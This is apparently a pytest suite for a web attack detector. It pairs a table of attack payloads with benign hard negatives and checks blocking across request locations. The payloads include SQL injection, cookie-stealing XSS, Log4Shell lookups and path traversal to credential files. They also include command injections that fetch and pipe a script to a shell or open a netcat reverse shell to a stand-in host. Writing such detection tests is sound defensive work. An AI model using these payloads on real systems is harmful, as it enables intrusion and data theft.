"""Attack and hard-negative tables per family, written for these tests.

Each attack must be blocked at the default level (2) wherever it is placed;
each hard negative (text that looks like an attack to a naive filter) must
pass. None of these rows are taken from the benchmark corpora.
"""

from __future__ import annotations

import pytest

from pynomaly_security.detection import Inspector, RequestParts

from ._helpers import form, header, json_body, query

ATTACKS = [
    # -- SQL injection ---------------------------------------------------------
    pytest.param("sqli", "x' OR 'b'='b", id="sqli-tautology-quoted"),
    pytest.param("sqli", "7 or 42=42", id="sqli-tautology-numeric"),
    pytest.param("sqli", "0 UNION ALL SELECT username, pw FROM accounts", id="sqli-union"),
    pytest.param("sqli", "0 uNiOn/**/sElEcT 1,2,3", id="sqli-union-comment-obfuscated"),
    pytest.param("sqli", "0 /*!50000union*/ /*!50000select*/ 1", id="sqli-mysql-version-comment"),
    pytest.param("sqli", "manager'--", id="sqli-comment-truncation"),
    pytest.param("sqli", "5; DROP TABLE invoices", id="sqli-stacked-drop"),
    pytest.param("sqli", "3) AND SLEEP(7)", id="sqli-time-mysql"),
    pytest.param("sqli", "1; WAITFOR DELAY '0:0:9'--", id="sqli-time-mssql"),
    pytest.param("sqli", "9 AND extractvalue(0x0a,concat(0x0a,@@version))", id="sqli-error-based"),
    pytest.param("sqli", "10 ORDER BY 12--", id="sqli-order-by-probe"),
    pytest.param(
        "sqli", "zz' AND ascii(substring(pw,1,1))>64 AND 'q'='q", id="sqli-blind-substring"
    ),
    pytest.param("sqli", "%2527%2520or%25201%253D1--", id="sqli-double-encoded"),
    pytest.param(
        "sqli",
        "".join(chr(ord(c) + 0xFEE0) if c != " " else c for c in "x' or 'b'='b"),
        id="sqli-fullwidth",
    ),
    pytest.param(
        "sqli", "1 AND (SELECT count(*) FROM information_schema.tables)>0", id="sqli-subquery"
    ),
    # -- XSS -------------------------------------------------------------------
    pytest.param(
        "xss", "<script>fetch('//evil.test?c='+document.cookie)</script>", id="xss-script"
    ),
    pytest.param("xss", "<img src=nope onerror=confirm(7)>", id="xss-img-onerror"),
    pytest.param("xss", "<svg/onload=top['al'+'ert'](1)>", id="xss-svg-onload"),
    pytest.param("xss", '"><details open ontoggle=print()>', id="xss-attribute-break"),
    pytest.param("xss", "<a href='jav&#x09;ascript:run()'>go</a>", id="xss-js-url-entity-tab"),
    pytest.param(
        "xss", "<iframe srcdoc='&lt;script&gt;x()&lt;/script&gt;'>", id="xss-iframe-srcdoc"
    ),
    pytest.param("xss", "%3Cbody%20onpageshow%3Dstart()%3E", id="xss-encoded-body"),
    pytest.param(
        "xss", "<math><mtext><a href=javascript:go()>m</a></mtext></math>", id="xss-mathml"
    ),
    pytest.param("xss", "{{constructor.constructor('go()')()}}", id="xss-angular-template"),
    pytest.param("xss", "<object data='data:text/html;base64,PHNjcmlwdD4='>", id="xss-data-url"),
    pytest.param("xss", "<svg><animate onbegin=go() attributeName=x>", id="xss-svg-animate"),
    pytest.param("xss", "top['con'+'firm'](1)", id="xss-indirect-call"),
    # -- path traversal ----------------------------------------------------------
    pytest.param("path_traversal", "../../../../etc/shadow", id="pt-dotdot-shadow"),
    pytest.param("path_traversal", "..%252f..%252f..%252fetc%252fgroup", id="pt-double-encoded"),
    pytest.param("path_traversal", "..%c0%af..%c0%afboot.ini", id="pt-overlong-utf8"),
    pytest.param("path_traversal", "..\\..\\..\\windows\\win.ini", id="pt-backslashes"),
    pytest.param("path_traversal", "file:///proc/self/environ", id="pt-file-url"),
    pytest.param(
        "path_traversal", "php://filter/convert.base64-encode/resource=conf", id="pt-php-filter"
    ),
    pytest.param("path_traversal", "....//....//....//etc/hosts", id="pt-nested-dots"),
    pytest.param("path_traversal", "/home/deploy/.ssh/id_rsa", id="pt-ssh-key"),
    # -- command injection -------------------------------------------------------------
    pytest.param("cmdi", "8.8.8.8; cat /etc/hostname", id="cmdi-semicolon"),
    pytest.param("cmdi", "report.pdf | whoami", id="cmdi-pipe"),
    pytest.param("cmdi", "a && curl http://evil.test/x.sh | sh", id="cmdi-and-download"),
    pytest.param("cmdi", "$(uname -a)", id="cmdi-dollar-paren"),
    pytest.param("cmdi", "`id`", id="cmdi-backticks"),
    pytest.param("cmdi", "x;cat${IFS}/etc/issue", id="cmdi-ifs"),
    pytest.param("cmdi", "() { :; }; /bin/bash -c 'ping -c 3 10.0.0.9'", id="cmdi-shellshock"),
    pytest.param("cmdi", "%0Auname%20-a", id="cmdi-newline"),
    pytest.param("cmdi", "x' || sleep 9 ||'", id="cmdi-quote-break"),
    pytest.param("cmdi", "uname -a", id="cmdi-command-line"),
    pytest.param("cmdi", "x; nohup nc -e /bin/sh 10.0.0.9 4444", id="cmdi-nohup-reverse-shell"),
    pytest.param("cmdi", "{cat,/etc/hostname}", id="cmdi-brace-expansion"),
    pytest.param("cmdi", "c$@at /etc/hostname", id="cmdi-variable-split"),
    # -- code injection --------------------------------------------------------------
    pytest.param("code_injection", "<?php passthru($_GET['c']); ?>", id="code-php"),
    pytest.param("code_injection", "${jndi:ldap://evil.test:1389/o}", id="code-log4shell"),
    pytest.param(
        "code_injection", "${${lower:j}ndi:${lower:r}mi://evil.test/a}", id="code-log4shell-nested"
    ),
    pytest.param(
        "code_injection", "{{ ''.__class__.__mro__[1].__subclasses__() }}", id="code-ssti-jinja"
    ),
    pytest.param(
        "code_injection", "#{T(java.lang.Runtime).getRuntime().exec('id')}", id="code-spel"
    ),
    pytest.param("code_injection", "__import__('os').popen('id').read()", id="code-python"),
    pytest.param("code_injection", "require('child_process').execSync('id')", id="code-node"),
    pytest.param(
        "code_injection", 'O:8:"Gadget42":1:{s:4:"file";s:3:"x.y";}', id="code-php-object"
    ),
    # -- second tier -------------------------------------------------------------------
    pytest.param("ssrf", "http://169.254.169.254/latest/meta-data/iam/", id="ssrf-metadata"),
    pytest.param("ssrf", "gopher://127.0.0.1:6379/_FLUSHALL", id="ssrf-gopher"),
    pytest.param(
        "xxe", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>', id="xxe"
    ),
    pytest.param("nosqli", '{"$where": "sleep(100)"}', id="nosqli-where"),
    pytest.param("ldapi", "*)(uid=*))(|(uid=*", id="ldapi"),
    pytest.param("protocol_attack", "en%0d%0aSet-Cookie:%20sid=fixated", id="crlf-set-cookie"),
]

HARD_NEGATIVES = [
    pytest.param("Tom O'Neil and Sarah D'Souza", id="names-with-apostrophes"),
    pytest.param("Please select the size from the list below.", id="prose-select-from"),
    pytest.param("Union Station, 2nd floor; drop-off at gate 4", id="prose-union-drop"),
    pytest.param("I'd rather sleep (8 hours) than order by phone", id="prose-sleep-order"),
    pytest.param("rock 'n' roll -- the 1950s", id="prose-quotes-dashes"),
    pytest.param("salt and pepper", id="search-and"),
    pytest.param('"Black" and "White" prints', id="quoted-words-and"),
    pytest.param("2024-03-01", id="date"),
    pytest.param("10-20 items", id="range"),
    pytest.param(
        'Use <b>bold</b> and <i>italics</i>, like <a href="https://x.test">this</a>',
        id="benign-html",
    ),
    pytest.param('<p align="center"><img src="logo.png" alt="logo"></p>', id="benign-html-image"),
    pytest.param("See ../docs/setup.md for details", id="relative-link"),
    pytest.param("Cats & dogs; more to come", id="ampersand-semicolon"),
    pytest.param(
        "Run `pip install pynomaly` then `uvicorn app:app --reload`", id="markdown-commands"
    ),
    pytest.param(
        "```python\nfrom starlette.applications import Starlette\napp = Starlette()\n```",
        id="markdown-code",
    ),
    pytest.param("The expression (a + b) * c is evaluated first", id="math-prose"),
    pytest.param(
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", id="user-agent"
    ),
    pytest.param("https://www.example.com/search?q=shoes&page=2", id="url"),
    pytest.param('{"items":[{"id":1,"name":"A"}],"total":null}', id="json-string"),
    pytest.param("1719849600000|1||A|B", id="pipe-separated-cookie"),
    pytest.param("email me at a.b@example.org", id="email"),
    pytest.param(
        "The system (as a whole) must include the range (1 to 5)", id="prose-php-function-words"
    ),
    pytest.param(
        "5' and 6' shelves",
        id="feet-and-inches",
        marks=pytest.mark.xfail(
            strict=True, reason="known limitation: reads like x' and 1 (quote, logic, number)"
        ),
    ),
    pytest.param("script-src 'self'; style-src 'self' https://cdn.example", id="csp-policy"),
    pytest.param("v_id:0178$_sn:1$_ss:0$_st:1719849600$_pn:2", id="analytics-cookie"),
    pytest.param("Price: $5 (tax included)", id="price-parenthesis"),
    pytest.param("Use `true` or `false`; then call super().__init__()", id="docs-code-words"),
    pytest.param("pip install starlette && uvicorn app:app", id="docs-shell-line"),
    pytest.param("caf\u00e9 \uff21\uff22\uff23 \u6771\u4eac", id="unicode"),
]


def _places(value: str) -> list[RequestParts]:
    return [
        query(value),
        form(value),
        json_body({"user": {"comment": value}}),
        header("x-note", value),
    ]


@pytest.mark.parametrize(("family", "payload"), ATTACKS)
def test_attack_is_blocked_everywhere(family: str, payload: str) -> None:
    """An attack is blocked and attributed to its family in a query, form, JSON and header."""
    inspector = Inspector()
    for parts in _places(payload):
        verdict = inspector.inspect(parts)
        assert verdict.blocked, (payload, parts.query_string, verdict)
        assert family in verdict.families, verdict.families


@pytest.mark.parametrize("text", HARD_NEGATIVES)
def test_hard_negative_passes(text: str) -> None:
    """Ordinary text that contains attack-like words or characters is not blocked."""
    inspector = Inspector()
    for parts in _places(text):
        verdict = inspector.inspect(parts)
        assert not verdict.blocked, (text, verdict.findings)


@pytest.mark.parametrize(
    "path",
    [
        pytest.param("/files/..%2f..%2f..%2fetc%2fpasswd", id="encoded-slashes"),
        pytest.param("/static/%2e%2e/%2e%2e/%2e%2e/etc/shadow", id="encoded-dots"),
        pytest.param("/download/..%5c..%5cwindows%5cwin.ini", id="encoded-backslashes"),
    ],
)
def test_traversal_in_path_is_blocked(path: str) -> None:
    """Traversal in the raw (still percent-encoded) path is found across segments."""
    verdict = Inspector().inspect(RequestParts("GET", path))
    assert verdict.blocked
    assert "path_traversal" in verdict.families


def test_cookie_value_is_inspected() -> None:
    """Cookie values are fields of their own (``cookie.<name>``)."""
    parts = RequestParts("GET", "/", b"", ((b"cookie", b"theme=dark; pref=1'%20or%20'x'%3D'x"),))
    verdict = Inspector().inspect(parts)
    assert verdict.blocked
    assert {f.field for f in verdict.findings} == {"cookie.pref"}
